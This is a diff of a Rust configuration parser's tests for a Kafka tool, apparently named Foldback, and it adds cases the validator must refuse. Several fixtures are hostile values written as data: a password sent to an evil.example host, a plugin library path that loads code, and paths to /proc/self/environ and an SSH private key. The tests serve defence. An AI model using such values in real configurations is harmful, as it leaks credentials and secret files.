@@ -9,7 +9,7 @@ production = false
 properties = { "security.protocol" = "SASL_SSL", "sasl.password" = "${KAFKA_PASSWORD}", "socket.timeout.ms" = 5000 }
 
 [connection.live]
-brokers = "${LIVE_BROKERS}"
+brokers = "a:1,b:2"
 production = true
 properties = { "ssl.ca.location" = "certs/ca.pem" }
 
@@ -64,16 +64,13 @@ code = "order_created_v1.js"
 
 /// Reads a text as the file `/shop/foldback.toml`.
 fn parse(text: &str) -> Result<Config, ConfigError> {
-    Config::parse(Path::new("/shop/foldback.toml"), text.to_owned())
+    let permissions = Permissions::default();
+    Config::parse(Path::new("/shop/foldback.toml"), text.to_owned(), permissions)
 }
 
-/// An environment with a password and brokers.
+/// An environment with a password.
 fn environment(name: &str) -> Option<String> {
-    match name {
-        "KAFKA_PASSWORD" => Some("p=1".to_owned()),
-        "LIVE_BROKERS" => Some("a:1,b:2".to_owned()),
-        _ => None,
-    }
+    (name == "KAFKA_PASSWORD").then(|| "p=1".to_owned())
 }
 
 #[test]
@@ -153,7 +150,40 @@ fn every_fault_is_told_with_line_and_word() {
             "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"security.protocol\" = \"tls\"".to_owned(),
             "4:23: `security.protocol` cannot have this value:",
         ),
+        (
+            "[connection.dev]\nbrokers = \"${KAFKA_PASSWORD}.evil.example\"".to_owned(),
+            "2:11: `bootstrap.servers` is no part of a login, and takes no value from outside",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\nregistry = \"http://evil.example/${KAFKA_PASSWORD}\"".to_owned(),
+            "3:12: `registry` is no part of a login, and takes no value from outside",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"client.id\" = \"${KAFKA_PASSWORD}\"".to_owned(),
+            "4:15: `client.id` is no part of a login, and takes no value from outside",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"ssl.engine.location\" = \"${KAFKA_X}\"".to_owned(),
+            "4:25: `ssl.engine.location` is no part of a login",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"plugin.library.paths\" = \"x.so\"".to_owned(),
+            "4:26: `plugin.library.paths` is refused: it would load code into Foldback",
+        ),
+        (
+            "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]\n\"sasl.oauthbearer.metadata.authentication.type\" = \"azure_imds\"".to_owned(),
+            "4:51: `sasl.oauthbearer.metadata.authentication.type` is refused: it would hand a token",
+        ),
+        (
+            with_order("fold = { code = \"../../elsewhere.js\" }"),
+            "3:17: `../../elsewhere.js` is no file of this workspace",
+        ),
+        ("[[upcast]]\ntype = \"A\"\nfrom = \"1\"\ncode = \"/x.js\"".to_owned(), "4:8: `/x.js` is no file of this workspace"),
         ("a = = 1".to_owned(), "1:5: "),
+        (
+            "[entity.order]\ntopics = [\"a\", \"b\\u0000\"]".to_owned(),
+            "2:16: a topic's name is made of letters, digits, `.`, `_` and `-`, this one has '\\0'",
+        ),
         ("[entity.order]\ntopics = []".to_owned(), "2:10: expected at least one topic"),
         (with_order("id = \"vlaue:/x\""), "3:6: expected a place in a record, got `vlaue:/x`"),
         (with_order("id = \"value:x\""), "3:6: expected a place in a record, got `value:x`"),
@@ -197,21 +227,55 @@ fn every_fault_is_told_with_line_and_word() {
 }
 
 #[test]
-fn the_nearest_file_above_is_found() {
+fn a_file_outside_and_a_variable_of_something_else_are_not_for_a_workspace() {
+    let with = |property: &str, value: &str| {
+        let head = "[connection.dev]\nbrokers = \"a\"\n[connection.dev.properties]";
+        parse(&format!("{head}\n\"{property}\" = \"{value}\"")).unwrap()
+    };
+    let refusal = |config: &Config| {
+        config.connection_in("dev", &|_| Some("leaked".to_owned())).unwrap_err().to_string()
+    };
+    let config = with("ssl.ca.location", "/proc/self/environ");
+    let expected = "/shop/foldback.toml:4:21: `/proc/self/environ` is no file of this workspace";
+    assert_eq!(refusal(&config), expected);
+    let config = with("sasl.oauthbearer.assertion.file", "../../home/ann/.ssh/id_ed25519");
+    assert!(refusal(&config).contains("is no file of this workspace"));
+    let mut config = with("sasl.password", "${AWS_SECRET_ACCESS_KEY}");
+    let error = config.connection_in("dev", &|_| panic!("it is not read")).unwrap_err();
+    assert_eq!(
+        error.to_string(),
+        "/shop/foldback.toml:4:19: the environment variable `AWS_SECRET_ACCESS_KEY` is not handed to a workspace"
+    );
+    assert!(error.hint().unwrap().contains("--allow-env AWS_SECRET_ACCESS_KEY"));
+    config.permissions.allow_env(["AWS_SECRET_ACCESS_KEY".to_owned()]);
+    let settings = config.connection_in("dev", &|_| Some("mine".to_owned())).unwrap();
+    assert_eq!(settings.properties["sasl.password"], "mine");
+}
+
+#[test]
+fn the_nearest_file_above_is_found_within_the_repository_or_the_home() {
     let folder = tempfile::tempdir().unwrap();
     let deep = folder.path().join("a/b");
     fs_err::create_dir_all(&deep).unwrap();
-    assert!(Config::find(&deep).unwrap().is_none(), "there is no file yet");
-    fs_err::write(folder.path().join(CONFIG_FILE), "[connection.dev]\nbrokers = \"a\"").unwrap();
-    let found = Config::find(&deep).unwrap().unwrap();
-    assert_eq!(found.path(), folder.path().join(CONFIG_FILE));
-    fs_err::write(folder.path().join("a").join(CONFIG_FILE), "oops").unwrap();
-    assert_eq!(Config::find(&deep).unwrap_err().line, 1);
-    let missing = Config::load(&folder.path().join("none.toml")).unwrap_err();
-    assert!(
-        missing
-            .to_string()
-            .ends_with("none.toml: cannot read the workspace file: entity not found"),
-        "{missing}"
-    );
+    let find = |start: &Path| Config::find(start, Permissions::default());
+    let write = |folder: &Path, text: &str| fs_err::write(folder.join(CONFIG_FILE), text).unwrap();
+    write(folder.path(), "[connection.dev]\nbrokers = \"a\"");
+    assert!(find(&deep).unwrap().is_none(), "outside of both only the folder itself counts");
+    assert!(find(folder.path()).unwrap().is_some());
+    fs_err::create_dir(folder.path().join(".git")).unwrap();
+    assert_eq!(find(&deep).unwrap().unwrap().path(), folder.path().join(CONFIG_FILE));
+    write(&folder.path().join("a"), "oops");
+    assert_eq!(find(&deep).unwrap_err().line, 1);
+    fs_err::write(deep.join(".git"), "gitdir: elsewhere").unwrap();
+    assert!(find(&deep).unwrap().is_none(), "a worktree's root ends the search");
+    let searched = |start: &str, home: Option<&str>| {
+        folders_to_search(Path::new(start), home.map(Path::new)).count()
+    };
+    assert_eq!(searched("/home/none/a/b", Some("/home/none")), 3);
+    assert_eq!(searched("/none/a/b", Some("/home/none")), 1);
+    assert_eq!(searched("/none/a/b", None), 1);
+    let missing =
+        Config::load(&folder.path().join("none.toml"), Permissions::default()).unwrap_err();
+    let words = missing.to_string();
+    assert!(words.ends_with("none.toml: cannot read the file: entity not found"), "{words}");
 }
